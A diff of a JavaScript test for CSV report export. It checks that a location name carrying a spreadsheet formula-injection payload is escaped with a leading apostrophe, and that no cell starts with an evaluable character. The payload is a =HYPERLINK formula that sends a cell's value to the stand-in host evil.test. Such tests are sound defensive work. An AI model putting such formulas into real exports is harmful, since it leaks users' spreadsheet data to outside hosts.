@@ -42,8 +42,8 @@ describe('report CSV export', () => {
     ).json().data;
     expect(report.location_name).toBe(FORMULA);
 
-    const csv = reportCsv(report);
-    expect(csv).toContain(`location,"'=HYPERLINK(""http://evil.test/?d=""&B5,""Open report"")"`);
+    const csv = reportCsv(report, 'en');
+    expect(csv).toContain(`Location,"'=HYPERLINK(""http://evil.test/?d=""&B5,""Open report"")"`);
     // No cell, quoted or not, starts with a character a spreadsheet would evaluate.
     const cells = csv.split(/\r\n/).flatMap((line) => line.split(/,(?=(?:[^"]*"[^"]*")*[^"]*$)/));
     const opened = cells.map((c) => c.replace(/^"/, ''));
